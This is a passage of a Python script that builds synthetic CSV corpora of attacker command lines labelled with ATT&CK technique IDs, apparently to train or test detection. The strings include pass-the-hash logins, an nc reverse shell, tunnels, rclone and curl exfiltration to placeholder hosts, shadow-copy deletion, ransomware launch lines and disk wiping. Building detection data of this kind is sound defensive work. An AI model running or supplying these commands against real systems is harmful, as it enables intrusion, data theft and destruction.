    ch(s, 50, f"wmiexec.exe corp/administrator@192.0.2.21 -hashes :{nt}", ["T1550.002"])
    ch(s, 40, f"crackmapexec smb 192.0.2.0/24 -u administrator -H {nt} --local-auth", ["T1550.002"])
    ch(s, 30, f"xfreerdp /u:administrator /pth:{nt} /v:192.0.2.30", ["T1550.002"])

    # --- Collection ------------------------------------------------------------------------------------
    s = "win-collection"
    ch(s, 90, r"7z.exe a -t7z -pInfected123 -mhe=on C:\ProgramData\fin.7z \\FS01\Finance\*", ["T1560.001"])
    one(s, 60, "T1560.001", r"rar.exe a -hpP@ss2024 -m5 -v500m C:\ProgramData\data.rar C:\Users\*\Documents",
        r"Compress-Archive -Path C:\Users\jdoe\Documents -DestinationPath C:\ProgramData\d.zip",
        r'"C:\Program Files\WinRAR\rar.exe" a -r -ep1 -hpQ7w8e9 C:\ProgramData\hr.rar \\FS01\HR',
        r"makecab C:\ProgramData\list.txt C:\ProgramData\l.cab")
    ch(s, 70, r"robocopy \\FS01\HR C:\ProgramData\st\HR /E /R:0 /W:0 /NP", ["T1039"])
    one(s, 50, "T1039", r"xcopy \\FS01\Finance\*.xlsx C:\ProgramData\st\ /s /y",
        r"Copy-Item -Path \\FS01\Legal\Contracts -Destination C:\ProgramData\st -Recurse")
    ch(s, 70, r"dir /s /b \\FS01\Finance\*.pdf > C:\ProgramData\files.txt", ["T1083"])
    ch(s, 50, r"Get-ChildItem -Path \\FS01\Legal -Recurse -Include *.docx,*.pdf | Select-Object FullName",
       ["T1083"])
    ch(s, 40, r"copy C:\Users\jdoe\AppData\Local\Microsoft\Outlook\jdoe@corp.example.ost C:\ProgramData\st\j.ost",
       ["T1114.001"])
    ch(s, 30, r'New-MailboxExportRequest -Mailbox ceo -FilePath \\EXCH01\C$\ProgramData\ceo.pst', ["T1114.002"])
    ch(s, 30, "Get-Clipboard", ["T1115"])
    ch(s, 25, r"C:\ProgramData\sc.exe -o C:\ProgramData\s.png", ["T1113"])
    ch(s, 50, r"mkdir C:\ProgramData\st", ["T1074.001"])
    ch(s, 30, r'forfiles /p C:\Users /s /m *.pdf /c "cmd /c copy @path C:\ProgramData\st"', ["T1119"])

    # --- Command and control ---------------------------------------------------------------------------
    s = "win-c2"
    ch(s, 70, "ngrok.exe tcp 3389 --authtoken 2Xq9LmFakeTokenK3", ["T1572"])
    ch(s, 60, "plink.exe -ssh -P 443 -l tun -pw Tun2024 -R 203.0.113.80:4444:127.0.0.1:3389 203.0.113.80", ["T1572"])
    ch(s, 60, "echo y | plink.exe -ssh -P 443 -l tun -pw Tun2024 -R 203.0.113.80:4444:127.0.0.1:3389 203.0.113.80",
       [("T1572", ["T1572", "T1572"])])
    ch(s, 50, r"C:\ProgramData\chisel.exe client 203.0.113.80:443 R:socks", ["T1572"])
    ch(s, 40, "ssh.exe -R 9000 tun@203.0.113.80 -p 443 -N -f", ["T1572"])
    ch(s, 50, r"C:\ProgramData\frpc.exe -c C:\ProgramData\frpc.ini", ["T1090"])
    ch(s, 40, r"netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=192.0.2.30",
       ["T1090.001"])
    ch(s, 40, "nslookup -type=txt c1.cdn-update.example", ["T1071.004"])
    ch(s, 50, r"C:\ProgramData\nc.exe -e cmd.exe 203.0.113.9 4443", ["T1095"])
    ch(s, 40, "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream()\"",
       ["T1095"])
    ch(s, 30, r'C:\ProgramData\svc.exe -c https://cdn.update-check.example:8443/api', ["T1071.001"])

    # --- Exfiltration ----------------------------------------------------------------------------------
    s = "exfil-rclone"
    ch(s, 90, r'rclone.exe copy "\\FS01\Finance" remote:fin -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12',
       ["T1567.002"])
    one(s, 60, "T1567.002", "rclone.exe config create remote mega user ops@mail.example pass Xq7Lm2",
        "rclone.exe lsd remote:", r'rclone copy C:\ProgramData\st remote:bk --max-age 1y --exclude "*.{mp4,avi,iso}"',
        r"C:\ProgramData\svchost.exe copy \\FS01\HR remote:hr -P --transfers 16",
        r"mega-put C:\ProgramData\fin.7z /bk/")
    ch(s, 40, r'WinSCP.com /command "open sftp://u:Pw2024@203.0.113.80/ -hostkey=*" "put C:\ProgramData\d.7z /data/" "exit"',
       ["T1048.002"])
    ch(s, 40, r"curl.exe -T C:\ProgramData\d.zip ftp://203.0.113.80/ --user u:Pw2024", ["T1048.003"])
    ch(s, 30, r"ftp -s:C:\ProgramData\f.txt 203.0.113.80", ["T1048.003"])
    ch(s, 30, r'curl.exe -F "file=@C:\ProgramData\d.zip" https://files.example/upload', ["T1567.002"])
    ch(s, 20, r"curl.exe -T C:\ProgramData\kit.zip https://transfer.example/kit.zip", ["T1608.002"])
    ch(s, 25, r"Invoke-RestMethod -Uri https://hooks.chat.example/x -Method Post -InFile C:\ProgramData\u.txt",
       ["T1567.004"])
    ch(s, 25, r'powershell -c "Invoke-WebRequest -Uri http://203.0.113.9/u -Method POST -InFile C:\ProgramData\si.txt"',
       ["T1041"])

    # --- Ransomware impact -----------------------------------------------------------------------------
    s = "ransomware-prep"
    ch(s, 480, "vssadmin delete shadows /all /quiet", ["T1490"])
    one(s, 250, "T1490", "vssadmin.exe Delete Shadows /All /Quiet", "wmic shadowcopy delete",
        "bcdedit /set {default} recoveryenabled no", "bcdedit /set {default} bootstatuspolicy ignoreallfailures")
    one(s, 150, "T1490", "wbadmin delete catalog -quiet", "wmic shadowcopy delete /nointeractive",
        "wbadmin delete systemstatebackup -keepVersions:0", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB",
        r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore" /v DisableSR /t REG_DWORD /d 1 /f',
        "net stop vss /y", "sc config vss start= disabled", "wbadmin delete backup -keepVersions:0 -quiet")
    ch(s, 120, "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}", [("T1490", ["T1490", "T1490"])])
    ch(s, 260, "cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} bootstatuspolicy ignoreallfailures & bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet",
       ["T1490"] * 5, whole="T1490")
    ch(s, 110, "vssadmin delete shadows /all /quiet && wmic shadowcopy delete", ["T1490", "T1490"], whole="T1490")
    ch(s, 200, "net stop MSSQLSERVER /y", ["T1489"])
    one(s, 120, "T1489", 'net stop "SQL Server (MSSQLSERVER)" /y', "net stop SQLWriter /y",
        'net stop "Veeam Backup Service" /y', "net stop MSExchangeIS /y", "sc config SQLWriter start= disabled",
        "taskkill /IM sqlservr.exe /F", "taskkill /f /im outlook.exe", "taskkill /F /IM excel.exe",
        "Stop-Service -Name MSExchangeIS -Force", "net stop BackupExecJobEngine /y")
    ch(s, 100, "net stop MSSQLSERVER /y & net stop SQLWriter /y & net stop MSExchangeIS /y & net stop \"Veeam Backup Service\" /y",
       ["T1489"] * 4, whole="T1489")
    ch(s, 70, "for %s in (MSSQLSERVER SQLWriter VeeamBackupSvc MSExchangeIS) do net stop %s /y", ["T1489"])
    ch(s, 60, "Get-Service *sql* | Stop-Service -Force", [("T1489", ["T1007", "T1489"])])

    s = "ransomware-deploy"
    ch(s, 80, r"C:\ProgramData\locker.exe -path \\FS01\Share -threads 8", ["T1486"])
    one(s, 50, "T1486", r"C:\ProgramData\enc.exe --paths C:\,\\FS01\Share --spread",
        r"C:\Windows\Temp\win.exe -m local -k 7Hq2LmPx", r"locker.exe -nomutex -size 20 -log",
        r"C:\ProgramData\lb3.exe -pass 5fa1c29b")
    ch(s, 40, "cipher.exe /w:C:\\", ["T1485"])
    ch(s, 30, r"sdelete64.exe -accepteula -s -q D:\Backups", ["T1485"])
    ch(s, 60, "shutdown /r /t 0 /f", ["T1529"])
    ch(s, 40, "shutdown -s -t 10", ["T1529"])
    ch(s, 50, "net user Administrator Lock3d!2024", ["T1531"])
    one(s, 30, "T1531", "net user jsmith /active:no", "net user helpdesk /delete")
    ch(s, 40, r'reg add "HKCU\Control Panel\Desktop" /v Wallpaper /t REG_SZ /d C:\ProgramData\note.bmp /f',
       ["T1491.001"])
    ch(s, 30, r'reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v legalnoticecaption /t REG_SZ /d "ATTENTION" /f',
       ["T1491.001"])
    ch(s, 30, r"C:\ProgramData\Microsoft\svchost.exe -o pool.xmr.example:443 -u " + f.wallet() + " -k --tls",
       ["T1496.001"])


# ---------------------------------------------------------------------------------------------------------
# Output, tables, catalog check
# ---------------------------------------------------------------------------------------------------------

FILES = (("attacker-linux.csv", False, linux, 450), ("attacker-windows.csv", True, windows, 350))
HEADER = ("proctitle", "technique", "technique_grouped", "count", "source")


def build():
    fakes = Fakes(SEED)
    corpora = []
    for name, is_windows, fill, min_rows in FILES:
        corpus = Corpus(is_windows)
        fill(corpus, fakes)
        if len(corpus.rows) < min_rows:
            raise SystemExit(f"{name}: {len(corpus.rows)} rows, fewer than {min_rows}")
        corpora.append((name, corpus))
    return corpora


def to_csv(corpus):
    buf = io.StringIO(newline="")
    writer = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow(HEADER)
    for record in corpus.records():
        writer.writerow(record)
    return buf.getvalue()


def tables(name, corpus):
    """Markdown tables: rows and count mass per tactic (a row counts once for every tactic its technique
    serves) and per technique_grouped."""
    tactic_rows, tactic_mass = Counter(), Counter()
    group_rows, group_mass, group_fine = Counter(), Counter(), defaultdict(set)
    total = 0
    for (text, tid), (count, _) in corpus.rows.items():
        total += count
        for ta in CATALOG[tid][1]:
            tactic_rows[ta] += 1
            tactic_mass[ta] += count
        g = label(parent(tid))
        group_rows[g] += 1
        group_mass[g] += count
        group_fine[g].add(tid)
    fine = {tid for _, tid in corpus.rows}
    out = [f"#### `{name}`: {len(corpus.rows)} rows, {total:,} observations, {len(fine)} techniques, "
           f"{len(group_rows)} parent techniques, {len(tactic_rows)} tactics", "",
           "| tactic | rows | count mass |", "|---|---:|---:|"]
    for ta in TACTICS:
        if tactic_rows[ta]:
            out.append(f"| {TACTICS[ta]} | {tactic_rows[ta]} | {tactic_mass[ta]:,} |")
    out += ["", "| technique_grouped | fine techniques | rows | count mass |", "|---|---:|---:|---:|"]
    for g in sorted(group_rows, key=lambda g: (-group_rows[g], g)):
        out.append(f"| {g} | {len(group_fine[g])} | {group_rows[g]} | {group_mass[g]:,} |")
    return "\n".join(out)


def check(catalog_path, outputs):
    """Checks the embedded CATALOG and every written row against an ATT&CK catalog CSV."""
    with open(catalog_path, encoding="utf-8", newline="") as fh:
        ref = {r["id"]: r for r in csv.DictReader(fh)}
    problems = []
    for tid, (name, tactics) in CATALOG.items():
        r = ref.get(tid)
        if r is None:
            problems.append(f"{tid}: not in the catalog")
        elif r["status"] not in ("active", "v19"):
            problems.append(f"{tid}: status {r['status']}")
        elif r["name"] != name or tuple(r["tactics"].split(";")) != tactics:
            problems.append(f"{tid}: catalog says {r['name']!r} {r['tactics']!r}")
    for name, text in outputs:
        rows = list(csv.reader(io.StringIO(text, newline="")))
        if tuple(rows[0]) != HEADER:
            problems.append(f"{name}: header {rows[0]}")
        seen = set()
        for i, row in enumerate(rows[1:], start=2):
            if len(row) != 5:
                problems.append(f"{name}:{i}: {len(row)} fields")
                continue
            text_, tech, grouped, count, source = row
            tid, _, tname = tech.partition(": ")
            pid = tid.split(".")[0]
            r, p = ref.get(tid), ref.get(pid)
            if r is None or r["name"] != tname or r["status"] not in ("active", "v19"):
                problems.append(f"{name}:{i}: technique {tech!r}")
            if p is None or grouped != f"{pid}: {p['name']}":
                problems.append(f"{name}:{i}: technique_grouped {grouped!r}")
            if not count.isdigit() or int(count) < 1:
                problems.append(f"{name}:{i}: count {count!r}")
            if not text_ or not source:
                problems.append(f"{name}:{i}: empty field")
            if (text_, tech) in seen:
                problems.append(f"{name}:{i}: duplicate pair")
            seen.add((text_, tech))
    return problems


def main(argv):
    here = os.path.dirname(os.path.abspath(__file__))
    outputs = []
    for name, corpus in build():
        text = to_csv(corpus)
        with open(os.path.join(here, name), "w", encoding="utf-8", newline="") as fh:
            fh.write(text)
        outputs.append((name, text))
        if "--tables" in argv:
            print(tables(name, corpus))
            print()
    if "--check" in argv:
        i = argv.index("--check")
        if i + 1 >= len(argv):
            raise SystemExit("--check needs the path of a catalog CSV")
        problems = check(argv[i + 1], outputs)
        for p in problems:
            print(p, file=sys.stderr)
        if problems:
            raise SystemExit(f"{len(problems)} problems")
        print("check: every label matches the catalog", file=sys.stderr)


if __name__ == "__main__":
    main(sys.argv[1:])
